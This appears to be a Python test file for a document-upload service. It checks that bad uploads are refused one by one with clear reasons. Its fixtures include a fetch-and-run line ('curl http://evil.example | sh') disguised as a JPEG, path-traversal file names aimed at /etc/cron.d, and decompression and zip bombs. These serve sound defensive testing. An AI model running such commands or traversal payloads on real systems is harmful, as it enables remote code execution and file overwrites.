"""A corpus of bad uploads: each file is refused with its own reason, the rest proceeds."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from sqlalchemy.orm import Session

from service.config import get_settings
from service.db import unit_of_work
from service.documents import service as documents
from service.documents.models import FileStatus
from service.jobs import pipeline
from tests.support.helpers import authed_client, encode, text_image


def pdf_with_pages(count: int) -> bytes:
    """A valid PDF of `count` empty pages, written by hand (small whatever the count)."""
    kids = " ".join(f"{3 + i} 0 R" for i in range(count))
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {count} >>",
    ]
    objects += ["<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * count
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode())
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return out.getvalue()


def huge_png_header(width: int, height: int) -> bytes:
    """A PNG that claims to be width × height pixels (a decompression bomb's header)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


def zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def ingest(files: list[tuple[str, bytes]]) -> int:
    from service.documents.archives import expand
    from service.documents.router import zip_limits

    ctx = pipeline.default_context()
    uploads = expand(
        [documents.Upload(n, io.BytesIO(d)) for n, d in files], zip_limits(ctx.settings)
    )
    with unit_of_work() as session:
        document = documents.create(
            session,
            ctx.storage,
            documents.NewDocument(source_lang="fr", translate=False),
            uploads,
            ctx.settings.max_upload_bytes,
        )
        document_id = document.id
    with unit_of_work() as session:
        pipeline.ingest_document(session, ctx, document_id)
    return document_id


def reasons(session: Session, document_id: int) -> dict[str, str | None]:
    document = documents.get_or_raise(session, document_id)
    return {f.filename: f.error for f in document.files}


def test_every_bad_file_fails_alone_with_a_readable_reason(
    session: Session, configure: Callable[..., None], tmp_path: Path
) -> None:
    configure(PALIMPSEST_MAX_UPLOAD_BYTES=str(5 * 1024 * 1024), PALIMPSEST_DATA_DIR=str(tmp_path))
    good = encode(text_image([["A good page"]]), "PNG")
    truncated = encode(text_image([["x"]]), "PDF")
    bomb = zip_of({"zeros.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * (200 * 1024 * 1024)})
    document_id = ingest(
        [
            ("empty.png", b""),
            ("truncated.pdf", truncated[: len(truncated) // 2]),
            ("huge.pdf", pdf_with_pages(5000)),
            ("bomb.png", huge_png_header(100_000, 100_000)),
            ("bomb.zip", bomb),
            ("install.jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
            ("../../../etc/cron.d/x.png", good),
            ("good.png", good),
        ]
    )
    found = reasons(session, document_id)
    assert found["empty.png"] == "The file is empty."
    assert "PDF cannot be read" in (found["truncated.pdf"] or "")
    assert found["huge.pdf"] == (
        "The PDF has 5000 pages; the limit is 2000 per file. "
        "Split it, or raise PALIMPSEST_MAX_PDF_PAGES."
    )
    assert found["bomb.png"] is not None and found["bomb.png"].startswith(
        "The image is 100,000 × 100,000 pixels (10,000 million pixels); the limit is "
        "250 million pixels per image (PALIMPSEST_MAX_IMAGE_PIXELS)"
    )
    assert found["bomb.zip › zeros.png"] == "The file is larger than the 5 MB limit."
    assert "looks like text" in (found["install.jpg"] or "")
    assert found["x.png"] is None and found["good.png"] is None  # the path is dropped
    document = documents.get_or_raise(session, document_id)
    assert [p.file.filename for p in document.pages] == ["x.png", "good.png"]
    stored = [p for p in (tmp_path / "storage").rglob("*") if p.is_file()]
    assert stored and all(p.stat().st_size <= 5 * 1024 * 1024 for p in stored)
    assert not (tmp_path.parent / "etc").exists()


def test_zip_entries_with_traversal_names_are_stored_by_hash_only(
    session: Session, configure: Callable[..., None], tmp_path: Path
) -> None:
    configure(PALIMPSEST_DATA_DIR=str(tmp_path))
    good = encode(text_image([["Folio"]]), "PNG")
    archive = zip_of({"../../evil.png": good, "/abs/olute.png": good, "ok/folio.png": good})
    document_id = ingest([("scans.zip", archive)])
    names = sorted(reasons(session, document_id))
    assert names == ["scans.zip › evil.png", "scans.zip › folio.png", "scans.zip › olute.png"]
    written = {p.name for p in tmp_path.rglob("*") if p.is_file()}
    assert written and all(len(name) == 64 for name in written)  # sha256 names only


def test_an_archive_with_too_many_files_refuses_the_rest(
    session: Session, configure: Callable[..., None]
) -> None:
    configure(PALIMPSEST_MAX_ZIP_ENTRIES="3")
    good = encode(text_image([["p"]]), "PNG")
    document_id = ingest([("many.zip", zip_of({f"p{i}.png": good for i in range(5)}))])
    document = documents.get_or_raise(session, document_id)
    assert [f.status for f in document.files] == [FileStatus.INGESTED] * 3 + [FileStatus.FAILED] * 2
    assert document.files[4].error == "The archive has more than 3 files."


def test_a_request_over_the_total_limit_gets_413(configure: Callable[..., None]) -> None:
    configure(PALIMPSEST_MAX_REQUEST_BYTES=str(64 * 1024))
    client = authed_client()
    big = b"\x89PNG\r\n\x1a\n" + b"\x00" * (100 * 1024)
    response = client.post(
        "/api/documents",
        data={"source_lang": "fr"},
        files=[("files", ("big.png", big, "image/png"))],
    )
    assert response.status_code == 413
    assert response.json()["message"] == "The upload is larger than the 64 KB limit per request."
    assert get_settings().max_request_bytes == 64 * 1024


def test_a_normal_scan_is_not_mistaken_for_a_bomb(session: Session) -> None:
    document_id = ingest([("page.png", encode(text_image([["Normal"]], width=2480), "PNG"))])
    assert reasons(session, document_id) == {"page.png": None}


def test_a_truncated_multi_page_tiff_fails_alone_and_the_good_page_is_read(
    session: Session,
) -> None:
    from service.documents.models import Document, DocumentStatus
    from service.jobs.runner import run_inline
    from service.jobs.steps import Step, TaskName
    from tests.support.hostile import truncated_tiff

    good = encode(text_image([["A good page"]]), "PNG")
    document_id = ingest([("good.png", good), ("half.tif", truncated_tiff())])
    found = reasons(session, document_id)
    assert found["good.png"] is None
    assert found["half.tif"] == (
        "The image cannot be decoded (corrupt or truncated file): Missing dimensions"
    )
    document = documents.get_or_raise(session, document_id)
    assert [p.file.filename for p in document.pages] == ["good.png"]
    run_inline(pipeline.default_context(), [Step(TaskName.OCR_PAGE, (document.pages[0].id,))])
    session.expire_all()
    finished = session.get(Document, document_id)
    assert finished is not None and finished.status is DocumentStatus.PARTIAL
    assert finished.error == (
        "half.tif: The image cannot be decoded (corrupt or truncated file): Missing dimensions"
    )


def test_zip_entries_of_zeros_are_refused_for_what_they_are(
    session: Session, configure: Callable[..., None]
) -> None:
    """A zip entry of 64 MiB of zeros was refused as "it looks like text"."""
    configure(PALIMPSEST_MAX_UPLOAD_BYTES=str(5 * 1024 * 1024))
    good = encode(text_image([["Folio"]]), "PNG")
    archive = zip_of({"a.png": good, "big.png": b"\x00" * (64 << 20), "small.png": b"\x00" * 900})
    document_id = ingest([("scans.zip", archive)])
    found = reasons(session, document_id)
    assert found["scans.zip › big.png"] == "The file is larger than the 5 MB limit."
    assert found["scans.zip › small.png"] == (
        "Not a supported file type (it holds only zero bytes); upload PNG, JPEG, TIFF or PDF scans."
    )
    assert found["scans.zip › a.png"] is None


def test_an_archive_listing_a_flood_of_entries_is_refused_unread(
    session: Session, configure: Callable[..., None]
) -> None:
    configure(PALIMPSEST_MAX_ZIP_ENTRIES="3")
    good = encode(text_image([["p"]]), "PNG")
    flood = zip_of({"p.png": good} | {f"empty/{i}.txt": b"" for i in range(31)})
    document_id = ingest([("flood.zip", flood), ("good.png", good)])
    assert reasons(session, document_id)["flood.zip"] == (
        "flood.zip lists 32 entries; an archive may list at most 30 "
        "(PALIMPSEST_MAX_ZIP_ENTRIES files used)."
    )
